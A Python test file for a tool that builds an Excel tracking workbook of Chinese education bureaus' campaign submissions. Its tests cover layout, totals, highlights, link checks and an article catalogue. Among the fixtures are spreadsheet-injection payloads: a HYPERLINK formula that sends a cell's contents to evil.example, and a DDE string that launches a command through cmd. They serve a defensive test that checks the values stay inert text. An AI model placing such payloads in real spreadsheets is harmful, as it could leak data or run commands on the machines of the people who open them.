"""The workbook reopened: cells, totals, highlights, formula-looking text kept as text, the
column links and the article catalogue (how it prints: test_workbook_print.py)."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from outbox.catalogue import Article, ArticleSource
from outbox.links import ColumnLink, LinkCheck, LinkState
from outbox.model import Liaison, Problem
from outbox.workbook import SHEETS, build_workbook, display_width, source_label
from outbox.workbook.cells import lines_needed
from parsers.model import Contact, FieldValue, StatsRow
from rules.campaign import Campaign
from tests.fixtures.servers import require_binary
from tests.outbox.conftest import statuses_at

TZ = ZoneInfo("Asia/Shanghai")
NOW = datetime(2020, 11, 17, 9, 0, tzinfo=TZ)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"


def t(day: int, hour: int = 10) -> datetime:
    return datetime(2020, 11, day, hour, tzinfo=TZ)


def ok(value: str) -> FieldValue:
    return FieldValue(value, True)


def build(campaign: Campaign) -> bytes:
    schedule = {
        "taishan": {
            "plan": [t(4)],
            "column_url": [t(4)],
            "contact": [t(4)],
            "articles": [t(9, h) for h in range(9, 14)],
            "summary": [t(16, 9)],
            "statistics": [t(16, 9)],
        },
        "daiyue": {"plan": [t(6)], "articles": [t(9), t(10)]},
    }
    statuses = statuses_at(campaign, schedule, NOW)
    liaisons = [
        Liaison(
            "taishan",
            Contact(ok("泰山区教体局"), ok("张三"), ok("科长"), ok("zs@ta.cn"), ok("13905381234")),
            t(4),
        ),
        Liaison(
            "daiyue",
            Contact(
                ok(HYPERLINK),
                ok("+李四"),
                FieldValue("", False, "missing"),
                ok("ls@ta.cn"),
                FieldValue("1390538", False, "invalid mobile number"),
                source="联络员.xlsx#table 1 row 2",
            ),
            t(6),
        ),
    ]
    statistics = [
        ("taishan", StatsRow("泰山区教体局", {"online_events": 3, "participants": 120.0}, 4)),
        ("daiyue", StatsRow("岱岳区", {"online_events": 2.5, "participants": "约20"}, 5)),
    ]
    statistics[1][1].values["reports"] = DDE
    problems = [
        Problem("文件无法读取", "附件损坏", t(10), "daiyue", message_ref="@SUM(A1:A9)"),
        Problem("未识别单位", "-2+3 来自 someone@qq.com", t(11)),
    ]
    links = [
        ColumnLink("daiyue", "http://old.dyjyj.gov.cn/", t(3)),
        ColumnLink(
            "daiyue",
            "http://www.dyjyj.gov.cn/zjhdz/",
            t(4),
            LinkCheck("http://www.dyjyj.gov.cn/zjhdz/", LinkState.OK, t(5), 200, title="职教周"),
        ),
        ColumnLink(
            "taishan",
            "http://www.tsjy.gov.cn/zthd/zjhdz.html",
            t(4),
            LinkCheck("http://www.tsjy.gov.cn/zthd/zjhdz.html", LinkState.HTTP_ERROR, t(5), 404),
        ),
        ColumnLink("xintai", "http://www.xtjy.net/zjzl/", t(4)),
    ]
    articles = [
        Article(
            "a12",
            "taishan",
            "泰山区职教活动周开幕",
            t(9),
            ArticleSource.FILE,
            "taishan/article/20201109-1000_新闻稿.docx",
            "新闻稿.docx",
            length=812,
            images=3,
            recommended=True,
            note="典型案例，推荐大众网",
        ),
        Article("m7.1", "daiyue", "=技能展示进社区", t(10), ArticleSource.LINK, "http://x.cn/a"),
    ]
    return build_workbook(
        campaign, statuses, liaisons, statistics, problems, NOW, links=links, articles=articles
    )


def test_sheets_headers_and_layout(campaign: Campaign) -> None:
    wb = load_workbook(io.BytesIO(build(campaign)))
    assert wb.sheetnames == list(SHEETS)
    assert SHEETS == ("联络员", "提交情况", "统计汇总", "宣传专栏", "宣传材料目录", "问题")
    for ws in wb.worksheets:
        assert ws.freeze_panes in ("A2", "B2", "C2")
        assert ws.auto_filter.ref is not None and ws.auto_filter.ref.startswith("A1:")
        assert all(cell.font.bold for cell in ws[1] if cell.value)
    ws = wb["联络员"]
    assert [c.value for c in ws[1]][:7] == [
        "单位",
        "类型",
        "联络员单位",
        "姓名",
        "职务",
        "邮箱",
        "手机号码",
    ]
    # CJK counts double: the unit name column is wider than the 类型 column, and a name
    # longer than it wraps onto a second line the row is tall enough for
    assert ws.column_dimensions["A"].width >= display_width("泰安市泰山区") + 1
    assert ws.column_dimensions["A"].width > ws.column_dimensions["B"].width
    long_name = lines_needed("泰安高新技术产业开发区教育和体育局", ws.column_dimensions["A"].width)
    assert long_name >= 2 and ws.row_dimensions[2].height >= 12.75 * 2


def test_liaisons_with_invalid_fields_highlighted(campaign: Campaign) -> None:
    ws = load_workbook(io.BytesIO(build(campaign)))["联络员"]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    assert len(rows) == len(campaign.units)  # every unit, with or without a liaison
    taishan = rows["泰安市泰山区教育和体育局"]
    assert [c.value for c in taishan[2:7]] == [
        "泰山区教体局",
        "张三",
        "科长",
        "zs@ta.cn",
        "13905381234",
    ]
    assert taishan[6].fill.fgColor.rgb != "00FFC7CE" and taishan[6].comment is None
    daiyue = rows["泰安市岱岳区教育和体育局"]
    mobile, position = daiyue[6], daiyue[4]
    assert mobile.value == "1390538"
    assert mobile.fill.fgColor.rgb == "00FFC7CE"
    assert mobile.comment is not None and "手机号码无效" in mobile.comment.text
    assert position.comment is not None and "职务缺失" in position.comment.text
    missing = rows["新泰市教育和体育局"]
    assert missing[3].value == "未报送" and missing[3].fill.fgColor.rgb == "00FFC7CE"


def test_matrix_with_received_dates(campaign: Campaign) -> None:
    ws = load_workbook(io.BytesIO(build(campaign)))["提交情况"]
    header = [c.value for c in ws[1]]
    assert header[2] == "活动周方案\n（截止11月5日（星期四）18:00）"
    assert header[-1] == "已完成"
    rows = {r[0].value: [c.value for c in r] for r in ws.iter_rows(min_row=2)}
    assert rows["泰安市泰山区教育和体育局"][2:] == [
        "完成 11-04",
        "完成 11-04",
        "完成 11-04",
        "完成 11-09",  # the fifth article, 9 Nov
        "完成 11-16",
        "完成 11-16",
        "6/6",
    ]
    assert rows["泰安市岱岳区教育和体育局"][2:] == [
        "逾期补交 11-06",
        "逾期",
        "逾期",
        "部分（2/5）逾期 11-10",
        "逾期",  # the summary was due on the 16th, 18:00
        "逾期",
        "1/6",
    ]
    fills = {c.value: c.fill.fgColor.rgb for c in ws[2] + ws[3]}
    assert fills["完成 11-04"] == "00C6EFCE"
    assert fills["逾期"] == "00FFC7CE"


def test_statistics_with_totals(campaign: Campaign) -> None:
    ws = load_workbook(io.BytesIO(build(campaign)))["统计汇总"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["单位", "单位名称", "线上活动（场次）"]
    assert header[-1] == "备注"
    col = {h: i for i, h in enumerate(header)}
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(campaign.units) + 1
    taishan, daiyue, total = rows[0], rows[1], rows[-1]
    assert taishan[col["单位名称"]] == "泰山区教体局"
    assert taishan[col["线上活动（场次）"]] == 3
    assert daiyue[col["参与师生（人次）"]] == "约20"
    assert "“参与师生（人次）”不是数字" in daiyue[col["备注"]]
    assert rows[2][col["备注"]] == "未报送"
    assert total[0] == "合计"
    assert total[col["线上活动（场次）"]] == 5.5
    assert total[col["参与师生（人次）"]] == 120
    assert total[col["宣传报道（篇）"]] == 0
    # the totals row is outside the auto-filter
    assert ws.auto_filter.ref.endswith(str(len(campaign.units) + 1))


def test_formula_looking_text_is_stored_as_text(campaign: Campaign) -> None:
    data = build(campaign)
    wb = load_workbook(io.BytesIO(data))
    liaison = wb["联络员"]["C3"]
    assert liaison.value == HYPERLINK and liaison.data_type == "s"
    assert wb["联络员"]["D3"].value == "+李四" and wb["联络员"]["D3"].data_type == "s"
    stats = [c for c in wb["统计汇总"][3] if c.value == DDE]
    assert stats and stats[0].data_type == "s"
    problems = wb["问题"]
    refs = {c.value: c.data_type for row in problems.iter_rows(min_row=2) for c in row}
    assert refs["@SUM(A1:A9)"] == "s" and refs["-2+3 来自 someone@qq.com"] == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 6
        for name in sheets:
            assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()


def test_libreoffice_shows_the_literal_text(campaign: Campaign, tmp_path: Path) -> None:
    soffice = require_binary("soffice", "/usr/bin/soffice")
    source = tmp_path / "book.xlsx"
    source.write_bytes(build(campaign))
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        timeout=180,
        check=True,
    )
    rows = list(csv.reader((tmp_path / "book.csv").read_text(encoding="utf-8").splitlines()))
    daiyue = next(r for r in rows if r and r[0] == "泰安市岱岳区教育和体育局")
    assert daiyue[2] == HYPERLINK  # not "点我": LibreOffice did not evaluate it
    assert daiyue[3] == "+李四"
    assert not any(re.fullmatch(r"点我", cell) for row in rows for cell in row)


def test_liaisons_carry_the_column_url_and_a_chinese_source(campaign: Campaign) -> None:
    ws = load_workbook(io.BytesIO(build(campaign)))["联络员"]
    header = [c.value for c in ws[1]]
    assert header[8:] == ["宣传专栏地址", "信息来源", "收到时间"]
    rows = {r[0].value: [c.value for c in r] for r in ws.iter_rows(min_row=2)}
    assert rows["泰安市岱岳区教育和体育局"][8] == "http://www.dyjyj.gov.cn/zjhdz/"  # the latest
    assert rows["泰安市岱岳区教育和体育局"][9] == "联络员.xlsx（表1第2行）"
    assert rows["东平县教育和体育局"][8] == "未报送"
    assert not any(re.search(r"\b(row|table|body)\b", str(v)) for r in rows.values() for v in r)


def test_source_labels_are_chinese() -> None:
    assert source_label("body") == "邮件正文"
    assert source_label("表.docx#table 2 row 5") == "表.docx（表2第5行）"
    assert source_label("表.xlsx#联络员 row 2") == "表.xlsx（工作表“联络员”第2行）"
    assert source_label("方案.pdf#text") == "方案.pdf（正文）"


def test_columns_sheet_lists_every_unit_with_its_check(campaign: Campaign) -> None:
    ws = load_workbook(io.BytesIO(build(campaign)))["宣传专栏"]
    assert [c.value for c in ws[1]][:6] == [
        "单位",
        "类型",
        "宣传专栏地址",
        "收到时间",
        "检查结果",
        "检查时间",
    ]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(rows) == len(campaign.units)
    kinds = [r[1] for r in rows]
    assert kinds == sorted(kinds, key=lambda k: k != "县市区")  # counties first
    by_name = {r[0]: r for r in rows}
    daiyue = by_name["泰安市岱岳区教育和体育局"]
    assert daiyue[2] == "http://www.dyjyj.gov.cn/zjhdz/" and daiyue[4] == "可访问"
    assert daiyue[6] == "职教周" and daiyue[7] == "http://old.dyjyj.gov.cn/"
    assert daiyue[3] == datetime(2020, 11, 4, 10)
    assert by_name["泰安市泰山区教育和体育局"][4] == "无法访问（404）"
    assert by_name["新泰市教育和体育局"][4] == "未检查"
    assert by_name["东平县教育和体育局"][4] == "未报送"
    fills = {r[4].value: r[4].fill.fgColor.rgb for r in ws.iter_rows(min_row=2)}
    assert fills["可访问"] == "00C6EFCE" and fills["无法访问（404）"] == "00FFC7CE"


def test_catalogue_sheet(campaign: Campaign) -> None:
    ws = load_workbook(io.BytesIO(build(campaign)))["宣传材料目录"]
    assert [c.value for c in ws[1]] == [
        "编号",
        "单位",
        "标题",
        "收到日期",
        "字数",
        "图片",
        "来源",
        "推荐",
        "推荐说明",
        "存放位置",
    ]
    first, second = (list(r) for r in ws.iter_rows(min_row=2))
    assert [c.value for c in first] == [
        "a12",
        "泰安市泰山区教育和体育局",
        "泰山区职教活动周开幕",
        datetime(2020, 11, 9, 10),
        812,
        3,
        "附件",
        "推荐",
        "典型案例，推荐大众网",
        "taishan/article/20201109-1000_新闻稿.docx",
    ]
    assert first[3].number_format == "mm-dd"
    assert second[2].value == "=技能展示进社区" and second[2].data_type == "s"
    assert second[6].value == "链接" and second[7].value is None
    assert second[9].value == "http://x.cn/a"
    # the archive path is for the screen: printed pages end at 推荐说明, and the path runs
    # on in one line instead of making the row taller
    assert ws.print_area == "'宣传材料目录'!$A$1:$I$3"
    assert not first[9].alignment.wrap_text and first[2].alignment.wrap_text
